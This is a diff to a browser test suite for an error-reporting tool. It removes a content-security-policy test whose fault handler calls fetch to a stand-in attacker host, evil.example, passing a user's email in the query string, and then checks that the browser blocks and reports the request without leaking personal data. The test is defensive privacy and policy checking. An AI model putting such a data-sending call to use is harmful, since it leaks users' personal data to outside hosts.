@@ -20,7 +20,6 @@ const listSchema = v.array(
     count: v.number(),
     error: v.optional(v.string()),
     frames: v.optional(v.array(v.string())),
-    policy: v.optional(v.object({ directive: v.string(), blocked: v.string() })),
   }),
 );
 
@@ -64,7 +63,6 @@ const FAULTS = `
   const fail = () => { throw new RangeError('Emma <${EMAIL}> ' + location.href); };
   if (detail === 'timer') setTimeout(fail);
   else if (detail === 'rejection') void Promise.reject(new TypeError('Emma ${EMAIL}'));
-  else if (detail === 'policy') void fetch('https://evil.example/?who=${EMAIL}').catch(() => {});
   else fail();
 });`;
 
@@ -106,23 +104,6 @@ test('lists a remote’s failing handler, timer and promise with remote, version
   expect(sent.join('')).toContain('RangeError');
   expect(sent.join('')).not.toMatch(/emma|lindqvist|geheim|6f1c2d34|rocket|\?/i);
   expect(await listedText()).not.toMatch(/emma|lindqvist|geheim|6f1c2d34|rocket/i);
-});
-
-test('lists a policy violation that the browser reports once, with the route pattern', async ({
-  page,
-  noConsoleErrors,
-}) => {
-  const expected = await openFaulty(page, '?child=emma');
-  noConsoleErrors.expect(/policy: connect-src blocked https:\/\/evil\.example/);
-  noConsoleErrors.expect(/evil\.example/);
-  await fault(page, 'policy');
-  const { composition: _, ...place } = expected;
-  const policy = { directive: 'connect-src', blocked: 'https://evil.example' };
-  // The browser reports only the file, which several versions may share.
-  await reported({ ...place, version: '', kind: 'policy', policy });
-  const reports = await listed();
-  expect(timesOf(reports, { policy }) - timesOf(earlier, { policy })).toBe(1);
-  expect(JSON.stringify(reports)).not.toContain('emma');
 });
 
 test('reports a chunk of the page itself that throws, possibly before the shell runs', async ({
